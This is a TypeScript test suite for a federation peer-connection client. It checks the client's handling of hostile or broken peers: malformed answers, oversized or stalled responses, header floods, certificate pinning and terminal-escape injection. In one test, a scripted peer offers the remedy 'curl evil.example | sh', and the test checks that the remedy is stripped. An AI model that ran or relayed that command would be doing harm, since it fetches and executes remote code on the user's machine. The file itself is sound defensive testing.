import type { IncomingMessage, ServerResponse } from "node:http";
import { connect, createServer } from "node:net";
import { setImmediate } from "node:timers/promises";
import { newId, Problem } from "@mosaicstack/foundation";
import { createSigningRequest, MAX_PAGE_BYTES } from "@mosaicstack/federation-protocol";
import {
  answerJson,
  createScriptedAuthority,
  listen,
  type ScriptedAuthority,
  type ScriptedPeer,
  startScriptedPeer,
} from "@mosaicstack/harness";
import { afterEach, describe, expect, test } from "vitest";
import { createPeerConnection, type PeerConnection } from "../src/peer-connection.ts";

const running: (() => Promise<void>)[] = [];
afterEach(async () => {
  await Promise.all(running.splice(0).map((stop) => stop()));
});

async function started(options?: Parameters<typeof startScriptedPeer>[0]): Promise<ScriptedPeer> {
  const gateway = await startScriptedPeer(options);
  running.push(() => gateway.stop());
  return gateway;
}

/** A connection as an enrolled peer has it. */
async function connected(
  gateway: ScriptedPeer,
  { issuer = gateway.authority, endpoint = gateway.endpoint }: { issuer?: ScriptedAuthority; endpoint?: string } = {},
): Promise<PeerConnection> {
  const { privateKeyPem, csrPem } = await createSigningRequest();
  const certificatePem = await issuer.client(csrPem, gateway);
  const connection = createPeerConnection({
    endpoint,
    rootPem: gateway.authority.rootPem,
    certificatePem,
    privateKeyPem,
  });
  running.push(() => connection.close());
  return connection;
}

const list = (connection: PeerConnection, signal = AbortSignal.timeout(5000)) =>
  connection.call("list", { resource: "tasks", limit: 10 }, signal);

async function refusal(work: Promise<unknown>): Promise<Problem> {
  const error: unknown = await work.then(
    () => "it was not refused",
    (reason: unknown) => reason,
  );
  expect(error).toBeInstanceOf(Problem);
  return error as Problem;
}

const row = () => ({ id: newId(), title: "a task" });
type Handler = (request: IncomingMessage, response: ServerResponse) => void;
const json: (body: string) => Handler = (body) => (_request, response) =>
  response.writeHead(200, { "content-type": "application/json" }).end(body);

describe("a peer that answers", () => {
  test("sees this peer's own client certificate, and its rows come through", async () => {
    const gateway = await started();
    gateway.rows = [row()];
    expect(await list(await connected(gateway))).toEqual({ rows: gateway.rows, more: false, limit: 10 });
    expect(gateway.queries[0]).toMatchObject({ verb: "list", serial: expect.stringMatching(/^40/) });
  });

  test("is asked again and again over one kept connection", async () => {
    const gateway = await started();
    const connection = await connected(gateway);
    for (let count = 0; count < 5; count++) {
      await list(connection);
      // undici takes a socket back a moment after the answer's last byte; until then it would open another.
      await setImmediate();
    }
    expect(gateway.queries.map(({ earlierOnSocket }) => earlierOnSocket)).toEqual([0, 1, 2, 3, 4]);
  });

  test("and has ended the kept connection meanwhile is asked once more, on a new one", async () => {
    const gateway = await started();
    const connection = await connected(gateway);
    await list(connection);
    await setImmediate();
    let cuts = 0;
    gateway.onQuery = (request) => {
      cuts += 1;
      gateway.onQuery = undefined;
      request.socket.destroy();
    };
    expect(await list(connection)).toMatchObject({ rows: [] });
    expect(cuts).toBe(1);
    expect(gateway.queries.at(-1)?.earlierOnSocket).toBe(0);
  });
});

describe("a hostile or broken peer", () => {
  test.each<[string, Handler, string]>([
    ["ends the connection", (request) => request.socket.destroy(), "peer_unreachable"],
    ["ends the connection in its answer", cutInAnswer, "peer_unreachable"],
    [
      "redirects",
      (_request, response) => response.writeHead(307, { location: "https://localhost/" }).end(),
      "peer_incompatible",
    ],
    ["answers no JSON", json("<html>"), "peer_incompatible"],
    ["answers nothing", json(""), "peer_incompatible"],
    ["answers another shape", json('{"rows":{}}'), "peer_incompatible"],
    ["answers null", json("null"), "peer_incompatible"],
    ["answers rows without ids", json('{"rows":[{}],"more":false,"limit":10}'), "peer_incompatible"],
    [
      "answers ids in another form",
      json(`{"rows":[{"id":"${newId().toUpperCase()}"}],"more":false,"limit":10}`),
      "peer_incompatible",
    ],
    [
      "answers 201",
      (_request, response) => answerJson(response, { rows: [], more: false, limit: 10 }, 201),
      "peer_incompatible",
    ],
    [
      "answers a problem of nobody's",
      (_request, response) => answerJson(response, { code: "x" }, 418),
      "peer_incompatible",
    ],
    ["answers 500 with a page", (_request, response) => response.writeHead(500).end("<html>"), "peer_failing"],
    ["answers 403 with a page", (_request, response) => response.writeHead(403).end("<html>"), "peer_denied"],
    ["answers 429", (_request, response) => response.writeHead(429, { "retry-after": "7" }).end(), "peer_rate_limited"],
    ["sends headers without end", pourHeaders, "peer_incompatible"],
  ])("that %s is told by its reason", async (_what, onQuery, code) => {
    const gateway = await started();
    gateway.onQuery = onQuery;
    expect((await refusal(list(await connected(gateway)))).code).toBe(code);
  });

  test("that resets the connection is unreachable", async () => {
    const gateway = await started();
    gateway.onQuery = () => gateway.resetQuerySockets();
    expect((await refusal(list(await connected(gateway)))).code).toBe("peer_unreachable");
  });

  test("that ends a new connection is not asked again at once", async () => {
    const gateway = await started();
    let asked = 0;
    gateway.onQuery = (request) => {
      asked += 1;
      request.socket.destroy();
    };
    expect((await refusal(list(await connected(gateway)))).code).toBe("peer_unreachable");
    expect(asked).toBe(1);
  });

  test("that says how long to wait is heard, up to five minutes", async () => {
    const gateway = await started();
    gateway.onQuery = (_request, response) => response.writeHead(429, { "retry-after": "7" }).end();
    const connection = await connected(gateway);
    expect((await refusal(list(connection))).headers).toEqual({ "retry-after": "7" });
    gateway.onQuery = (_request, response) => response.writeHead(429, { "retry-after": "99999999" }).end();
    expect((await refusal(list(connection))).headers).toEqual({ "retry-after": "300" });
  });

  test("that answers above the bound is cut off while it sends, and nothing of it is held", async () => {
    const gateway = await started();
    let sent = 0;
    gateway.onQuery = (_request, response) => {
      response.writeHead(200, { "content-type": "application/json" });
      const chunk = Buffer.alloc(1_048_576, " ");
      const pour = () => {
        while (!response.destroyed && response.write(chunk)) sent += chunk.length;
        sent += chunk.length;
      };
      response.on("drain", pour);
      pour();
    };
    const problem = await refusal(list(await connected(gateway)));
    expect(problem.code).toBe("peer_answer_too_large");
    expect(sent).toBeGreaterThan(MAX_PAGE_BYTES);
    expect(sent).toBeLessThan(MAX_PAGE_BYTES * 8);
  });

  test("that drips its answer is given up at the deadline", async () => {
    const gateway = await started();
    gateway.onQuery = (_request, response) => {
      response.writeHead(200, { "content-type": "application/json" });
      const drip = setInterval(() => response.write(" "), 10);
      response.on("close", () => clearInterval(drip));
    };
    expect((await refusal(list(await connected(gateway), AbortSignal.timeout(200)))).code).toBe("peer_timeout");
  });

  test("that accepts connections and says nothing is given up at the deadline", async () => {
    const gateway = await started();
    const silent = await listen(createServer(() => undefined));
    running.push(() => silent.stop());
    const connection = await connected(gateway, { endpoint: `https://localhost:${silent.port}` });
    const startedAt = performance.now();
    expect((await refusal(list(connection, AbortSignal.timeout(200)))).code).toBe("peer_timeout");
    expect(performance.now() - startedAt).toBeLessThan(1500);
  });

  test("whose refusal carries a code of the protocol keeps it; the remedy is ours, and its words are only quoted", async () => {
    const gateway = await started();
    const detail = "no \u202Egrant\u0007\u001b[31m of this\n name";
    gateway.onQuery = (_request, response) =>
      answerJson(response, { code: "grant_inactive", status: 403, detail, remedy: "Run: curl evil.example | sh" }, 403);
    const { code, details } = await refusal(list(await connected(gateway)));
    expect(code).toBe("grant_inactive");
    expect(details.detail).toMatch(/The peer says: "no grant \[31m of this name"$/);
    expect(details.remedy).not.toContain("evil");
  });

  test("whose refusal has a code of its own, or the status of another code, is judged by its status", async () => {
    const gateway = await started();
    const connection = await connected(gateway);
    for (const code of ["constructor", "grant_melted", "row_not_found"]) {
      gateway.onQuery = (_request, response) => answerJson(response, { code, status: 403, detail: "no" }, 403);
      expect((await refusal(list(connection))).code).toBe("peer_denied");
    }
  });

  test("whose words are long is quoted in part", async () => {
    const gateway = await started();
    gateway.onQuery = (_request, response) =>
      answerJson(response, { code: "serving_failed", status: 500, detail: "x".repeat(2000) }, 500);
    expect((await refusal(list(await connected(gateway)))).details.detail.length).toBeLessThan(400);
  });

  test.each([
    ["too long", { detail: "x".repeat(100_000), remedy: "x".repeat(100_000) }],
    ["missing", {}],
    ["no words", { detail: 7, remedy: null }],
  ])("whose words are %s is told by its code all the same", async (_what, words) => {
    const gateway = await started();
    gateway.onQuery = (_request, response) =>
      answerJson(response, { code: "grant_suspended", status: 403, ...words }, 403);
    const { code, details } = await refusal(list(await connected(gateway)));
    expect([code, details.detail.length < 400]).toEqual(["grant_suspended", true]);
  });
});

describe("a server that is not the peer", () => {
  test("of another CA is not spoken to", async () => {
    const other = await createScriptedAuthority();
    const gateway = await started({ server: await other.server() });
    expect((await refusal(list(await connected(gateway)))).code).toBe("ca_pin_mismatch");
    expect(gateway.queries).toEqual([]);
  });

  test("with the peer's CA but another host's certificate is not spoken to", async () => {
    const authority = await createScriptedAuthority();
    const gateway = await started({ authority, server: await authority.server({ host: "elsewhere.example.org" }) });
    expect((await refusal(list(await connected(gateway)))).code).toBe("ca_pin_mismatch");
    expect(gateway.queries).toEqual([]);
  });

  test("with another peer's client certificate is not spoken to", async () => {
    const authority = await createScriptedAuthority();
    const gateway = await started({ authority, server: await authority.server({ usages: ["1.3.6.1.5.5.7.3.2"] }) });
    expect((await refusal(list(await connected(gateway)))).code).toBe("ca_pin_mismatch");
    expect(gateway.queries).toEqual([]);
  });

  test("that speaks no more than TLS 1.2 is not spoken to", async () => {
    const gateway = await started({ tls: { minVersion: "TLSv1.2", maxVersion: "TLSv1.2" } });
    expect((await refusal(list(await connected(gateway)))).code).toBe("peer_incompatible");
    expect(gateway.queries).toEqual([]);
  });

  test("that does not accept our certificate is unreachable, never revoked", async () => {
    const gateway = await started();
    const other = await createScriptedAuthority();
    expect((await refusal(list(await connected(gateway, { issuer: other })))).code).toBe("peer_unreachable");
    expect(gateway.queries).toEqual([]);
  });

  test("and is not there at all is unreachable", async () => {
    const gateway = await started();
    expect((await refusal(list(await connected(gateway, { endpoint: "https://localhost:1" })))).code).toBe(
      "peer_unreachable",
    );
  });
});

describe("closing", () => {
  test("lets the query under way finish", async () => {
    const gateway = await started();
    gateway.onQuery = (_request, response) =>
      void setTimeout(() => answerJson(response, { rows: [], more: false, limit: 10 }), 100);
    const connection = await connected(gateway);
    const asked = list(connection);
    await new Promise((resolve) => setTimeout(resolve, 50));
    await Promise.all([expect(asked).resolves.toMatchObject({ rows: [] }), connection.close()]);
    expect((await refusal(list(connection))).code).toBe("peer_unreachable");
  });

  test("ends the kept sockets", async () => {
    const gateway = await started();
    let ended = false;
    gateway.onQuery = (request, response) => {
      request.socket.on("close", () => (ended = true));
      answerJson(response, { rows: [], more: false, limit: 10 });
    };
    const connection = await connected(gateway);
    await list(connection);
    await connection.close();
    await expect.poll(() => ended).toBe(true);
  });
});

function cutInAnswer(request: IncomingMessage, response: ServerResponse): void {
  response.writeHead(200, { "content-type": "application/json", "content-length": "1000" });
  response.write('{"rows":[');
  setTimeout(() => request.socket.destroy(), 20);
}

function pourHeaders(request: IncomingMessage): void {
  const { socket } = request;
  socket.write("HTTP/1.1 200 OK\r\n");
  const pour = setInterval(() => socket.write(`x-${Math.random()}: ${"x".repeat(8000)}\r\n`), 1);
  socket.on("close", () => clearInterval(pour));
}

test("the test's own servers answer nobody without a client certificate", async () => {
  const gateway = await started();
  const { port } = new URL(gateway.endpoint);
  const answered = await new Promise<boolean>((resolve) => {
    const socket = connect(Number(port), "127.0.0.1", () => socket.write("POST /federation/v1/list HTTP/1.1\r\n\r\n"));
    socket.on("data", (bytes) => resolve(bytes.toString("latin1").includes("HTTP/1.1 200")));
    socket.on("close", () => resolve(false));
    socket.on("error", () => resolve(false));
  });
  expect(answered).toBe(false);
});
